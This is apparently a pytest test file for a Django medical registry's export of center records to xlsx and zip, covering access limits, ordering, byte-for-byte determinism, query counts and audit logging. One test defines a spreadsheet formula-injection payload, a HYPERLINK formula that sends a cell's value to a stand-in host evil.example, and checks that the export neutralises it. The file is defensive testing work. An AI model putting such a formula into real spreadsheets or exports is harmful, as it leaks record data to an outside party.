"""A center's records in the import workbook's shape: own centers only, fixed order and bytes, neutralised text."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from audit.models import AccessEvent
from registry import models as m
from registry.transfer.export import (
    EXPORT_CENTER_USERS_ONLY,
    EXPORT_NOT_YOUR_CENTER,
    records_export,
    records_rows,
)
from registry.transfer.resources import resource_for
from registry.transfer.sheets import SHEETS, sheet_for
from registry.transfer.workbook import CODES_SHEET, README_SHEET
from tests.factories import make_case, save

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [v for name in workbook.sheetnames for row in workbook[name].iter_rows(values_only=True) for v in row]


def _zip_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8-sig") for name in archive.namelist())


def test_a_center_user_exports_their_cases_and_never_another_centers(people, case_a, case_b):
    name, data = records_export(people.entry_a)
    assert name == "records-AAA.xlsx"
    cells = _xlsx_cells(data)
    assert case_a.registry_id in cells and case_b.registry_id not in cells
    assert case_a.hospital_number_hash in cells and case_b.hospital_number_hash not in cells
    name, data = records_export(people.entry_a, fmt="zip")
    text = _zip_text(data)
    assert name == "records-AAA.zip" and case_a.registry_id in text and case_b.registry_id not in text


def test_the_workbook_has_the_templates_shape_and_the_case_in_every_sheet_it_has_records_in(people, case_a):
    workbook = load_workbook(io.BytesIO(records_export(people.lead_a)[1]))
    assert workbook.sheetnames == [README_SHEET, *(s.name for s in SHEETS), CODES_SHEET]
    for sheet in SHEETS:
        rows = list(workbook[sheet.name].iter_rows(values_only=True))
        assert list(rows[0]) == [c.name for c in sheet.columns]
    diagnosis = dict(zip(*workbook["diagnosis"].iter_rows(values_only=True), strict=True))
    assert diagnosis["registry_id"] == case_a.registry_id and diagnosis["center"] == "AAA"
    assert diagnosis["lineage"] == "ALL" and diagnosis["fever"] == "yes" and diagnosis["weakness"] == "no"
    assert diagnosis["version"] == 1
    cases = dict(zip(*workbook["cases"].iter_rows(values_only=True), strict=True))
    assert cases["hospital_number"] is None  # never stored, never exported


def test_registry_wide_roles_and_other_centers_are_refused(people, case_a):
    for who in (people.coordinator, people.manager):
        with pytest.raises(PermissionDenied) as refused:
            records_export(who)
        assert str(refused.value) == EXPORT_CENTER_USERS_ONLY
    with pytest.raises(PermissionDenied) as refused:
        records_export(people.entry_a, centers=["B-CTR"])
    assert str(refused.value) == EXPORT_NOT_YOUR_CENTER


def test_archived_records_are_left_out(people, case_a):
    event = m.OutcomeEvent.objects.get(case=case_a)
    m.OutcomeEvent.objects.filter(pk=event.pk).update(archived_at=timezone.now())
    assert records_rows([case_a])["outcome_events"] == []


def test_rows_are_ordered_by_case_number_then_record_number(people, center_a):
    later = make_case(people.entry_a, center_a, center_case_number="B-2")
    earlier = make_case(people.entry_a, center_a, center_case_number="A-1")
    for day in (20, 10):  # entered out of date order: numbers 1 then 2
        save(people.entry_a, earlier, m.FollowUp(case=earlier, contact_date=date(2020, 2, day), vital_status="alive"))
    rows = records_rows([later, earlier])
    assert [r[1] for r in rows["cases"]] == ["A-1", "B-2"]
    assert [(r[1], r[3]) for r in rows["follow_up"]] == [("A-1", 1), ("A-1", 2)]


def test_the_same_records_give_the_same_bytes(people, case_a):
    assert records_export(people.entry_a)[1] == records_export(people.entry_a)[1]
    assert records_export(people.entry_a, fmt="zip")[1] == records_export(people.entry_a, fmt="zip")[1]


def test_hostile_text_is_neutralised_in_both_formats(people, case_a):
    diagnosis = m.Diagnosis.objects.get(case=case_a)
    diagnosis.other_extramedullary = HOSTILE
    save(people.entry_a, case_a, diagnosis)
    workbook = load_workbook(io.BytesIO(records_export(people.entry_a)[1]))
    ws = workbook["diagnosis"]
    column = [c.name for c in sheet_for(m.Diagnosis).columns].index("other_extramedullary") + 1
    cell = ws.cell(2, column)
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    assert all(not (isinstance(v, str) and v.startswith("=")) for v in _xlsx_cells(records_export(people.entry_a)[1]))
    text = _zip_text(records_export(people.entry_a, fmt="zip")[1])
    assert "'=HYPERLINK(" in text and ',"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


def _queries(user) -> int:
    with CaptureQueriesContext(connection) as captured:
        records_export(user)
    return len(captured)


def _cases(user, center, first, count):
    for n in range(first, first + count):
        case = make_case(user, center, center_case_number=f"N-{n:03d}")
        save(user, case, m.FollowUp(case=case, contact_date=date(2020, 3, 1), vital_status="alive"))


def test_the_number_of_queries_does_not_grow_with_the_cases(people, center_a, django_assert_max_num_queries):
    _cases(people.entry_a, center_a, 0, 3)
    few = _queries(people.entry_a)
    _cases(people.entry_a, center_a, 3, 27)
    with django_assert_max_num_queries(few):
        _, data = records_export(people.entry_a)
    assert len(load_workbook(io.BytesIO(data))["cases"]["A"]) == 31


def test_the_resources_export_the_same_cells_as_the_export(people, case_a, case_b):
    rows = records_rows([case_a])
    for sheet in SHEETS:
        resource = resource_for(sheet)()
        queryset = sheet.model.objects.filter(pk=case_a.pk) if sheet.model is m.Case else None
        if queryset is None:
            queryset = sheet.model.objects.filter(case=case_a, archived_at__isnull=True).order_by("pk")
        dataset = resource.export(queryset=queryset)
        assert dataset.headers == [c.name for c in sheet.columns]
        assert [list(r) for r in dataset] == rows[sheet.name], sheet.name


def test_django_import_exports_own_path_can_import_the_cases_sheet(people, center_a):
    resource = resource_for(SHEETS[0])()
    dataset = resource.export(queryset=m.Case.objects.none())
    row = {c.name: "" for c in SHEETS[0].columns}
    row.update(center="AAA", case_number="X-1", hospital_number="998877", sex="F", birth_date="2020-04-01")
    row.update(excluded="no")
    dataset.append([row[name] for name in dataset.headers])
    result = resource.import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    case = m.Case.objects.get(center=center_a, center_case_number="X-1")
    assert case.registry_id and case.hospital_number_hash and case.birth_date == date(2020, 4, 1)


# ---- the views ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "zip"])
def test_the_view_serves_a_center_user_and_logs_the_export(client, people, case_a, case_b, fmt):
    client.force_login(people.entry_a)
    response = client.get(reverse("registry:records_export", args=[fmt]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="records-AAA.{fmt}"'
    event = AccessEvent.objects.get(kind=AccessEvent.Kind.EXPORT)
    assert event.user == people.entry_a and event.file_name == f"records-AAA.{fmt}"
    assert event.detail == f"records of AAA ({fmt})"


@pytest.mark.parametrize("who", ["coordinator", "manager"])
@pytest.mark.parametrize("fmt", ["xlsx", "zip"])
def test_registry_wide_roles_get_403_and_nothing_is_logged_as_an_export(client, people, case_a, who, fmt):
    client.force_login(getattr(people, who))
    response = client.get(reverse("registry:records_export", args=[fmt]))
    assert response.status_code == 403
    assert case_a.registry_id not in response.content.decode()
    assert not AccessEvent.objects.filter(kind=AccessEvent.Kind.EXPORT).exists()
